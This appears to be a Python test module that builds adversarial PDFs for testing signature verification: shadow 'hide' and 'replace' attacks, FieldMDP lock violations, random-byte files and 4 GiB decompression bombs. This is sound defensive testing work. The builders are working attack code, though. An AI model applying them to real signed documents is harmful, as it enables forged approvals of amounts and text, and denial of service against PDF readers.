"""More verification test documents (issue #3): shadow "hide" and "replace" [NDSS21], FieldMDP
field locks, random bytes, and decompression bombs. Builders as in ``verify_docs``; importing
this module registers its documents in ``verify_docs.DOCS``. The bombs are kept apart in
``BOMBS``: they are verified only in worker processes under verify_many's memory limit, never
in the test process (a test may lift pyHanko's decode caps to reach the memory limit).

- [NDSS21] C. Mainka, V. Mladenov, S. Rohlmann, "Shadow Attacks: Hiding and Replacing
  Content in Signed PDFs", NDSS 2021. "Hide": the signed revision already shows an overlay
  over content the signer does not see; an update after signing takes the overlay away.
  "Replace": the signed revision holds an object that defines how content looks (here the
  font of a filled form field); an update after signing redefines it, so the same field
  value shows other text.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.xref import ObjectStream
from pyhanko.sign import fields
from verify_docs import (
    QD,
    TT,
    Kit,
    _free_text,
    _rect,
    add_annotation,
    add_text_field,
    doc,
    fill_text_field,
    good_pyhanko,
    pyhanko_sign,
    update,
)

# --- shadow attacks [NDSS21] ------------------------------------------------------------------

HIDDEN_TEXT = "Dieu 3. Thu hoi Quyet dinh nay."  # on page 1 of shadow-hide, under the overlay
HIDDEN_BOX = (66, 492, 526, 522)  # where the overlay paints white (x0, y0, x1, y1; points)
OVERLAY = "/Che"  # the overlay's XObject resource name on that page


def _white_overlay(width: int, height: int) -> generic.StreamObject:
    """A Form XObject that paints a white rectangle over its whole /BBox."""
    return generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _rect(0, 0, width, height),
        },
        stream_data=f"1 g 0 0 {width} {height} re f".encode(),
    )


@doc("shadow-hide")
def shadow_hide(kit: Kit, out: Path) -> None:
    """Shadow attack, hide [NDSS21]: before signing, page 1 gets a line of text and, drawn
    over it, a Form XObject painting a white rectangle (the signer sees a blank area); after
    signing, an update shrinks the overlay's /BBox to nothing, which uncovers the line."""
    x0, y0, x1, y1 = HIDDEN_BOX

    def prepare(w):
        overlay = w.add_object(_white_overlay(x1 - x0, y1 - y0))
        hidden = generic.StreamObject(stream_data=(
            f"BT /F1 14 Tf {x0 + 6} {y0 + 8} Td ({HIDDEN_TEXT}) Tj ET "
            f"q 1 0 0 1 {x0} {y0} cm {OVERLAY} Do Q").encode("latin-1"))
        w.add_stream_to_page(0, w.add_object(hidden), resources=generic.DictionaryObject({
            pdf_name("/XObject"): generic.DictionaryObject({pdf_name(OVERLAY): overlay})}))

    def uncover(w):
        page = w.root["/Pages"]["/Kids"][0]
        ref = page["/Resources"]["/XObject"].raw_get(OVERLAY)
        ref.get_object()[pdf_name("/BBox")] = _rect(0, 0, 0, 0)
        w.mark_update(ref)

    signed = pyhanko_sign(update(QD.read_bytes(), prepare), kit.signer("signer-rsa2048"))
    out.write_bytes(update(signed, uncover))


AMOUNT_FIELD = "KinhPhi"
AMOUNT = "Kinh phi: 100.000.000 dong"  # what the signer saw in the field, and its /V
AMOUNT_RECT = (72, 560, 320, 580)  # the field's widget on page 1
FIELD_FONT = "/TiRo"  # the field's font, in the AcroForm /DR and its appearance stream


@doc("shadow-replace")
def shadow_replace(kit: Kit, out: Path) -> None:
    """Shadow attack, replace [NDSS21]: before signing, a text field KinhPhi is filled with
    an amount; its appearance stream draws it with an indirect Times-Roman font object (also
    the form's default resource). After the approval signature, an update redefines that font
    object alone with an /Encoding whose /Differences draw code 49 ('1') as the glyph 'nine':
    the field value (/V) and the appearance stream stay as signed, yet the page now shows
    "900.000.000"."""
    def prepare(w):
        add_text_field(w, AMOUNT_FIELD, rect=AMOUNT_RECT)
        font = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Times-Roman"),
        }))
        fonts = generic.DictionaryObject({pdf_name(FIELD_FONT): font})
        form = w.root["/AcroForm"]
        form[pdf_name("/DR")] = generic.DictionaryObject({pdf_name("/Font"): fonts})
        w.update_container(form)
        appearance = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _rect(0, 0, AMOUNT_RECT[2] - AMOUNT_RECT[0],
                                         AMOUNT_RECT[3] - AMOUNT_RECT[1]),
                pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): fonts}),
            },
            stream_data=f"/Tx BMC BT {FIELD_FONT} 12 Tf 2 6 Td ({AMOUNT}) Tj ET EMC".encode(),
        )
        widget = _field(w, AMOUNT_FIELD)
        widget[pdf_name("/V")] = pdf_string(AMOUNT)
        widget[pdf_name("/DA")] = pdf_string(f"{FIELD_FONT} 12 Tf 0 g")
        widget[pdf_name("/AP")] = generic.DictionaryObject({
            pdf_name("/N"): w.add_object(appearance)})
        w.update_container(widget)

    def replace(w):
        ref = w.root["/AcroForm"]["/DR"]["/Font"].raw_get(FIELD_FONT)
        ref.get_object()[pdf_name("/Encoding")] = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Encoding"),
            pdf_name("/BaseEncoding"): pdf_name("/WinAnsiEncoding"),
            pdf_name("/Differences"): generic.ArrayObject(
                [generic.NumberObject(ord("1")), pdf_name("/nine")]),
        })
        w.mark_update(ref)

    prepared = update(TT.read_bytes(), prepare)
    signed = pyhanko_sign(prepared, kit.signer("signer-rsa2048"), field_name="ChuKyLanhDao")
    out.write_bytes(update(signed, replace))


def _field(w, name: str) -> generic.DictionaryObject:
    for ref in w.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            return ref.get_object()
    raise KeyError(name)


# --- FieldMDP: a signature that locks form fields ---------------------------------------------

LOCKING_FIELD = "KyDuyet"
LOCKED, UNLOCKED = "SoVanBan", "GhiChu"


def fieldmdp_signed(kit: Kit) -> bytes:
    """The ChuKyLanhDao form with text fields SoVanBan and GhiChu and a signature field
    KyDuyet whose /Lock names SoVanBan (Action /Include); signer-rsa2048 signs KyDuyet, and
    pyHanko carries the lock into the signature's /Reference as a /FieldMDP transform."""
    lock = fields.FieldMDPSpec(fields.FieldMDPAction.INCLUDE, fields=[LOCKED])

    def prepare(w):
        add_text_field(w, LOCKED)
        add_text_field(w, UNLOCKED, rect=(72, 520, 320, 540))
        fields.append_signature_field(w, fields.SigFieldSpec(
            LOCKING_FIELD, box=(72, 300, 272, 360), on_page=0, field_mdp_spec=lock))

    prepared = update(TT.read_bytes(), prepare)
    return pyhanko_sign(prepared, kit.signer("signer-rsa2048"), field_name=LOCKING_FIELD)


@doc("fieldmdp-locked-fill")
def fieldmdp_locked_fill(kit: Kit, out: Path) -> None:
    """FieldMDP: after the KyDuyet signature, an update fills the field it locks (SoVanBan):
    form filling that the signature forbids."""
    signed = fieldmdp_signed(kit)
    out.write_bytes(update(signed, lambda w: fill_text_field(w, LOCKED, "So: 9/TTr-VP")))


@doc("fieldmdp-unlocked-fill")
def fieldmdp_unlocked_fill(kit: Kit, out: Path) -> None:
    """FieldMDP control: the same signature, then the field it does not lock (GhiChu) is
    filled: ordinary form filling after an approval signature."""
    signed = fieldmdp_signed(kit)
    out.write_bytes(update(signed, lambda w: fill_text_field(w, UNLOCKED, "Da xem")))


# --- random bytes ---------------------------------------------------------------------------

def random_bytes(size: int = 4096, *, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


@doc("random-bytes")
def random_bytes_doc(kit: Kit, out: Path) -> None:
    """4 KiB of (seeded) random bytes."""
    out.write_bytes(random_bytes())


@doc("random-bytes-pdf-header")
def random_bytes_pdf_header(kit: Kit, out: Path) -> None:
    """A PDF header line, then random bytes (4 KiB in all): no objects, xref or trailer."""
    header = b"%PDF-1.7\n"
    out.write_bytes(header + random_bytes(4096 - len(header)))


# --- decompression bombs (not in DOCS) --------------------------------------------------------

BOMB_ZEROS = 4 * 1024**3  # NUL bytes the bomb inflates to, after a line of text
BOMB_TEXT = b"BT /F1 14 Tf 72 500 Td (Dieu 3. Bo sung sau khi ky.) Tj ET\n"


def flate_bomb(prefix: bytes, zeros: int, *, chunk: int = 1 << 20) -> bytes:
    """A zlib stream that inflates to ``prefix`` and then ``zeros`` NUL bytes (white space in
    a content stream), made in milliseconds: after a full flush a deflate stream keeps no
    history, so every ``chunk`` of NULs compresses to the same bytes, made once and
    repeated; the Adler-32 trailer is computed for the whole."""
    assert zeros % chunk == 0
    comp = zlib.compressobj(9)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(bytes(chunk)) + comp.flush(zlib.Z_FULL_FLUSH)
    end = comp.flush(zlib.Z_FINISH)[:-4]  # the final empty block, without the checksum
    adler = zlib.adler32(prefix)  # each NUL leaves Adler-32's sum a as is and adds a to b
    a, b = adler & 0xFFFF, ((adler >> 16) + zeros * (adler & 0xFFFF)) % 65521
    return head + block * (zeros // chunk) + end + ((b << 16) | a).to_bytes(4, "big")


BOMBS: dict[str, Callable[[Kit, Path], None]] = {}  # like DOCS, but never verified in-process


def bomb(name: str):
    def register(fn):
        BOMBS[name] = fn
        return fn
    return register


@bomb("bomb-page-content")
def bomb_page_content(kit: Kit, out: Path) -> None:
    """An approval signature, then an update appending to page 1 a FlateDecode content
    stream of about 4 MB that inflates to 4 GiB (a line of text, then NULs)."""
    def edit(w):
        stream = generic.StreamObject({pdf_name("/Filter"): pdf_name("/FlateDecode")},
                                      encoded_data=flate_bomb(BOMB_TEXT, BOMB_ZEROS))
        w.add_stream_to_page(0, w.add_object(stream))
    out.write_bytes(update(good_pyhanko(kit), edit))


class _BombObjectStream(ObjectStream):
    """An object stream whose FlateDecode data inflates to its objects, then BOMB_ZEROS NULs
    (after the last object: white space)."""

    def as_pdf_object(self) -> generic.StreamObject:
        plain = super().as_pdf_object()  # compress=False: the objects, unfiltered
        entries = {k: v for k, v in plain.items() if k != "/Length"}
        return generic.StreamObject(
            {**entries, pdf_name("/Filter"): pdf_name("/FlateDecode")},
            encoded_data=flate_bomb(plain.data, BOMB_ZEROS))


@bomb("bomb-object-stream")
def bomb_object_stream(kit: Kit, out: Path) -> None:
    """An approval signature, then an update adding a FreeText annotation to page 1 whose
    dictionary sits in an object stream (/Type /ObjStm) of about 4 MB inflating to 4 GiB: a
    reader must inflate it to see the annotation, as difference analysis does."""
    def edit(w):
        stream = _BombObjectStream(compress=False)
        w.object_streams.append(stream)  # what writer.prepare_object_stream does
        add_annotation(w, _free_text(w), obj_stream=stream)
    out.write_bytes(update(good_pyhanko(kit), edit))
